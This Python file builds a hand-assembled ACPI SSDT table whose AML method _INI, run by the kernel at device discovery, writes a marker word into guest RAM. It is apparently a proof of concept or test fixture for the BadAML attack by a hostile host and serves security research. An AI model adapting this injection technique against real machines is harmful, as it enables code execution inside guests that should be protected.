# SPDX-License-Identifier: Apache-2.0
"""An ACPI table with bytecode beside the DSDT, as a hostile host would add it (BadAML).

It is this, in ACPI source language: a device EVIL0001 whose method _INI, which the kernel runs when
it finds the device, writes one word into RAM.

    Scope (\\_SB) { Device (EVL0) {
        Name (_HID, "EVIL0001")
        OperationRegion (RAM, SystemMemory, ADDRESS, 4)
        Field (RAM, DWordAcc, NoLock, Preserve) { VAL, 32 }
        Method (_INI, 0) { VAL = 0x4C495645 }
    } }

Specification: ACPI 6.5 §5.2.6 (the header) and §20.2 (the encoding of AML).
"""

from __future__ import annotations

import struct

DEVICE = "EVIL0001"
ADDRESS = 0x2000_0000  # RAM of every machine here
WORD = 0x4C495645

_HEADER = struct.Struct("<4sIBB6s8sI4sI")


def evil_table(signature: bytes = b"SSDT") -> bytes:
    """The whole table; QEMU writes its checksum again.

    Args:
        signature: the kernel loads tables with this one, and with PSDT and OSDT, in one loop.
    """
    region = b"\x5b\x80RAM_\x00\x0c" + struct.pack("<I", ADDRESS) + b"\x0a\x04"
    field = _package(b"\x5b\x81", b"RAM_\x03VAL_\x20")
    method = _package(b"\x14", b"_INI\x00" + b"\x70\x0c" + struct.pack("<I", WORD) + b"VAL_")
    name = b"\x08_HID\x0d" + DEVICE.encode("ascii") + b"\0"
    device = _package(b"\x5b\x82", b"EVL0" + name + region + field + method)
    code = _package(b"\x10", b"\\_SB_" + device)
    size = _HEADER.size + len(code)
    plain = _HEADER.pack(signature, size, 2, 0, b"EVIL  ", b"BADAML  ", 1, b"HAND", 1) + code
    return plain[:9] + bytes([-sum(plain) & 0xFF]) + plain[10:]


def _package(operator: bytes, body: bytes) -> bytes:
    """An operator, the length of what follows including itself, and that."""
    size = len(body) + 1
    if size < 0x40:
        return operator + bytes([size]) + body
    size += 1
    return operator + bytes([0x40 | size & 0xF, size >> 4]) + body
